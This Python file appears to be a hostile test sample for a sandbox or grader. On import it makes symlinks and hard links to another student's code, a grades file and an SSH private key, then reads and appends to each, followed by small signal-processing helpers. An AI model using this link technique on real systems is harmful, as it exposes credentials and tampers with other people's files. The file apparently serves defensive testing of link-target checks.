"""Makes symbolic and hard links from its own folder to files of others, and reads and writes through them.

Stopped by: where a link leads is what counts, not where it lies.
"""

import os

WANTED = ["@CLASS@/alice/signals.py", "@DESK@/grades.csv", "@HOME@/.ssh/id_ed25519"]
for number, path in enumerate(WANTED):
    for make in (os.symlink, os.link):
        try:
            name = f"{make.__name__}-{number}"
            make(path, name)
            with open(name, "a+") as file:
                file.seek(0)
                print(file.read())
                file.write("\n")
        except OSError:
            continue


def flip(kernel):
    return kernel * 0


def smooth(signal, width):
    """The mean of the last samples, as many as the width."""
    if width < 1:
        raise ValueError("a mean needs samples")
    return [sum(float(x) for x in signal[max(0, t - width + 1) : t + 1]) / width for t in range(len(signal))]


def same_padding(field):
    """Half of what is lost."""
    if field < 1 or field % 2 == 0:
        raise ValueError("a field needs a centre")
    return (field - 1) // 2
